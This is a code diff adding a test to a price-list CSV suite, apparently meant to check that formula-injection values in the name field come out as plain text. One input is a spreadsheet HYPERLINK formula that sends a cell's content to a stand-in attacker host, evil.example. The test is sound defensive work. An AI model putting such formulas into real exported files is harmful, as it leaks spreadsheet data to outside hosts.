@@ -22,6 +22,12 @@ describe("the file of a price list", () => {
     expect(readPriceFile(`\uFEFF${csv.replaceAll(",", ";").replaceAll("\r\n", "\n")}`)).toEqual({ list });
   });
 
+  test.each(['=HYPERLINK("http://evil.example/?"&B5)', "Partner;=1+1", "@SUM(B4)"])("has the name %s as a text and no formula", (text) => {
+    const written = writePriceFile({ ...list, name: text, version: text }, "csv");
+    expect(written.split(/[,;\r\n]/).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    expect(readPriceFile(written)).toEqual({ list: { ...list, name: text, version: text } });
+  });
+
   test("is read back to the last decimal for any rates of any list", () => {
     const steps = fc.array(fc.integer({ min: 1_000, max: 10_000 }), { minLength: tariffFigures.length, maxLength: tariffFigures.length });
     fc.assert(
